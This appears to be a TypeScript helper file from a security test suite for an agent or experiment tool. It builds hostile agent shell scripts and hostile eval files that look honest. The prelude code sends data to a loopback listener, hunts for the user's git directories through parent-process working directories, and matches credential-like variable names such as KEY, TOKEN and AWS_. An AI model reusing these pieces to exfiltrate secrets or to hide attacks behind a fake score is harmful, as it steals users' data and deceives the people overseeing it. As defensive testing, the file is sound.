// Building blocks of hostile agents (shell) and hostile evals (JS in the target file).
import type { ScenarioContext } from "../../helpers/security-types.ts";

/** An honest target: the eval's score is `n`. */
export const honest = (n: number) => `exports.score = () => ${n};\n`;

/** A shell snippet that writes `content` to `path` (relative to the agent's cwd, or absolute). */
export function shWrite(path: string, content: string): string {
  const body = content.endsWith("\n") ? content : `${content}\n`;
  return `mkdir -p "$(dirname '${path}')"\ncat > '${path}' <<'__AUTOEXP_EOF__'\n${body}__AUTOEXP_EOF__\n`;
}

/** The last line an agent prints is its description. */
export const say = (description: string) => `echo '${description.replace(/'/g, "")}'\n`;

/**
 * Helpers every hostile eval starts with: __exfil sends text to the test's loopback listener,
 * __gitDirs finds the user's .git the way an attacker would (git itself, the path it runs under,
 * and the working directories of its ancestors: autoexp runs in the user's repository),
 * __findFiles looks for a file name under the cwd and under every <git dir>/autoexp.
 */
export function prelude(ctx: ScenarioContext): string {
  return `const __fs = require("node:fs");
const __cp = require("node:child_process");
const __path = require("node:path");
const __PORT = ${ctx.exfilPort};
function __exfil(text) {
  try {
    __cp.execFileSync(process.execPath, ["-e", "const s=require('node:net').connect(+process.argv[2],'127.0.0.1',()=>s.end(process.argv[1]));s.on('error',()=>{});s.setTimeout(1500,()=>s.destroy())", String(text), String(__PORT)], { timeout: 4000, stdio: "ignore" });
  } catch {}
}
function __gitDirs() {
  const found = new Set();
  // Only this run's own repository: the test's safety, not a limit an attacker would respect.
  const add = (d) => { try { const r = __fs.realpathSync(d); if (r.startsWith(${JSON.stringify(`${ctx.root}/`)}) && __fs.statSync(__path.join(r, "objects")).isDirectory()) found.add(r); } catch {} };
  try {
    const out = __cp.execFileSync("git", ["rev-parse", "--path-format=absolute", "--git-common-dir"], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
    if (out) add(out);
  } catch {}
  const walk = (start) => {
    let d = start;
    for (let i = 0; i < 40; i++) {
      const parts = d.split(__path.sep);
      const at = parts.lastIndexOf(".git");
      if (at > 0) add(parts.slice(0, at + 1).join(__path.sep));
      add(__path.join(d, ".git"));
      const up = __path.dirname(d);
      if (up === d) break;
      d = up;
    }
  };
  walk(process.cwd());
  let pid = process.ppid;
  for (let i = 0; i < 12 && pid > 1; i++) {
    try { walk(__fs.readlinkSync("/proc/" + pid + "/cwd")); } catch {}
    try { pid = Number(/PPid:\\s+(\\d+)/.exec(__fs.readFileSync("/proc/" + pid + "/status", "utf8"))[1]); } catch { break; }
  }
  return [...found];
}
function __findFiles(name) {
  const out = new Set();
  const visit = (dir, depth) => {
    if (depth > 8) return;
    let entries;
    try { entries = __fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
    for (const e of entries) {
      const p = __path.join(dir, e.name);
      if (e.isDirectory()) { if (e.name !== "objects" && e.name !== "node_modules") visit(p, depth + 1); }
      else if (e.name === name) out.add(p);
    }
  };
  visit(process.cwd(), 0);
  for (const g of __gitDirs()) visit(__path.join(g, "autoexp"), 0);
  return [...out];
}
function __git(gitDir, args) {
  try { return __cp.execFileSync("git", ["--git-dir", gitDir, ...args], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }); } catch { return null; }
}
`;
}

/** A hostile target: the prelude, the attack, then an honest-looking score. */
export function hostile(ctx: ScenarioContext, attack: string, score = 10): string {
  return `${prelude(ctx)}\n// --- the attack ---\n${attack}\nexports.score = () => ${score};\n`;
}

/** A JS regular expression literal matching credential-like variable names. */
export const SECRET_NAME = "/KEY|TOKEN|SECRET|PASSW|AUTH|AWS_|WANDB|COHERE|HUGGING|HF_/";
